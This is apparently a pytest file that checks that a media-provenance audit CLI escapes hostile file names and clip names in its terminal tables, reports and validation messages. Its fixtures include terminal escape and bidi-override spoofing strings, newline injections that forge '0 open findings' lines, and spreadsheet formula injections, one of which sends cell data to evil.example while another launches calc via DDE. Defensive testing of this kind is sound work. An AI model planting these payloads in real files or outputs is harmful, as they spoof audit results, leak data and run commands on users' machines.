"""Hostile names and values in the text outputs: terminal tables, CSV cells, JUnit XML.

File names and sidecar values come from artists' files; a terminal acts on escape sequences
and bidi controls, XML forbids some characters, a spreadsheet runs formulas. Real files in
``tmp_path``, the real CLI through subprocess.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from clearance._display import shown
from conftest import run_cli
from test_lineage import single, write_config

ESC_NAME = "comp/sh010_\x1b[2J\x1b[31mclean.exr"
RTL_NAME = "comp/sh020_\u202egnp.exe.exr"
NL_NAME = "comp/sh040_line1\nFAKE: 0 open findings.exr"
EVIL_TOOL = "evil\x1b[2J\x1b]0;pwned\x07tool\nPASS    fake"

#: what must never reach a terminal raw
RAW = ("\x1b", "\x07", "\u202e", "\r")


def hostile_show(root: Path) -> Path:
    """A comp stage whose file names and sidecar values hold escapes, an RTL override and
    newlines; scanned once, so its audit log and state store exist."""
    write_config(root, [{"name": "comp", "paths": ["comp/"]}])
    for rel in (ESC_NAME, RTL_NAME, NL_NAME):
        single(root, rel)
        doc = {
            "provenance": 1,
            "asset": rel.rsplit("/", 1)[-1],
            "production": "SHOW01",
            "shot": "sh\x1b[2J010",
            "generated": True,
            "source_type": "trainedAlgorithmicMedia",
            "steps": [{"tool": EVIL_TOOL, "inputs": []}],
            "output": {"use": "final", "on_screen": "background", "subject": "incidental"},
        }
        (root / f"{rel}.genai.json").write_text(json.dumps(doc), encoding="utf-8")
    return root


def assert_neutralised(text: str) -> None:
    for char in RAW:
        assert char not in text, f"{char!r} printed raw"
    lines = text.splitlines()
    assert not [line for line in lines if line.startswith(("FAKE", "PASS    fake"))], lines


def test_shown_escapes_controls_bidi_and_line_breaks_only() -> None:
    assert shown("comp/sh010_v001.####.exr") == "comp/sh010_v001.####.exr"
    assert shown("café – naïve 日本") == "café – naïve 日本"
    assert shown("a\x1b[2Jb\tc\nd\re\x7f\x85") == "a\\x1b[2Jb\\tc\\nd\\re\\x7f\\x85"
    assert shown("x\u202ey\u2066z\u200f\u061c\u2028") == "x\\u202ey\\u2066z\\u200f\\u061c\\u2028"
    assert shown(None) == "" and shown(1001) == "1001"


def test_scan_and_check_tables_show_hostile_names_and_values_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    result = run_cli("scan", str(root))
    assert result.code == 1, result.stderr
    assert_neutralised(result.stdout)
    assert "sh010_\\x1b[2J\\x1b[31mclean.exr" in result.stdout
    assert "sh020_\\u202egnp.exe.exr" in result.stdout
    assert "sh040_line1\\nFAKE: 0 open findings.exr" in result.stdout
    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS    fake" in result.stdout
    checked = run_cli("check", str(root / ESC_NAME), str(root / f"{NL_NAME}.genai.json"))
    assert checked.code == 1, checked.stderr
    assert_neutralised(checked.stdout)
    assert_neutralised(checked.stderr)  # "… is a sidecar: checking the asset it describes"
    assert "sh040_line1\\nFAKE: 0 open findings.exr.genai.json is a sidecar" in checked.stderr
    tree = run_cli("lineage", ESC_NAME, "--config", str(root / "clearance.yaml"))
    assert tree.code == 0, tree.stderr
    assert_neutralised(tree.stdout)
    assert tree.stdout.startswith("comp/sh010_\\x1b[2J\\x1b[31mclean.exr  [comp]")


def test_report_table_shows_hostile_names_and_values_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"))
    assert result.code == 0, result.stderr
    assert_neutralised(result.stdout)
    assert "comp/sh040_line1\\nFAKE: 0 open findings.exr  [approval]" in result.stdout
    assert "comp/sh020_\\u202egnp.exe.exr" in result.stdout
    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS" in result.stdout


def test_json_report_keeps_the_values_exact(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"), "-f", "json")
    assert {a["asset"] for a in result.json()["assets"]} == {ESC_NAME, RTL_NAME, NL_NAME}


def hostile_cut(root: Path) -> Path:
    """An edit of missing media whose timeline, track and clip names are hostile."""
    otio = pytest.importorskip("opentimelineio")
    rate = 24

    def clip(name: str) -> object:
        span = otio.opentime.TimeRange(
            otio.opentime.RationalTime(0, rate), otio.opentime.RationalTime(24, rate)
        )
        return otio.schema.Clip(
            name=name, media_reference=otio.schema.MissingReference(), source_range=span
        )

    cut = otio.schema.Timeline(name="cut \x1b[2J\x1b[32mALL CLEAR")
    track = otio.schema.Track(name="V1\u202e")
    for name in (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "sh999 \x1b[2J\x1b[1;1HNo GenAI material on screen.",
        "sh998\u202eevil",
        "sh997\nFAKE: 0 open findings",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ):
        track.append(clip(name))
    cut.tracks.append(track)
    path = root / "editorial" / "hostile.otio"
    path.parent.mkdir(parents=True, exist_ok=True)
    otio.adapters.write_to_file(cut, str(path))
    return path


def test_timeline_table_shows_hostile_names_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("timeline", str(hostile_cut(root)))
    assert result.code == 1, result.stderr
    assert_neutralised(result.stdout)
    assert 'Timeline "cut \\x1b[2J\\x1b[32mALL CLEAR"' in result.stdout
    assert "sh997\\nFAKE: 0 open findings" in result.stdout
    assert "sh998\\u202eevil" in result.stdout and "V1\\u202e" in result.stdout


def test_validate_lines_and_error_lines_show_hostile_names_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    valid = run_cli("validate", str(root / f"{NL_NAME}.genai.json"))
    assert valid.code == 0, valid.stdout + valid.stderr
    assert_neutralised(valid.stdout)
    assert "sh040_line1\\nFAKE: 0 open findings.exr.genai.json: valid" in valid.stdout
    missing = run_cli("validate", str(root / "comp" / "gone\x1b]0;pwned\x07\nFAKE: ok.json"))
    assert missing.code == 2
    assert_neutralised(missing.stderr)
    assert "gone\\x1b]0;pwned\\x07\\nFAKE: ok.json: no such file" in missing.stderr
